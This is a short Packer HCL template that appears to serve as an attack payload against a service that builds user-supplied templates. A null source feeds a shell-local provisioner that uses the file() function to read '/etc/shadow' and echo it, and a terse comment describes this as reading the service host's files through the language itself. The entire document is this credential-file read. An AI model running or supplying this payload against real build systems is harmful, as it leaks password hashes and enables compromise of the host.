# Files of the service's host by what the language itself can do.
source "null" "function" {
  communicator = "none"
}

build {
  sources = ["source.null.function"]
  provisioner "shell-local" {
    inline = ["echo ${file("/etc/shadow")}"]
  }
}
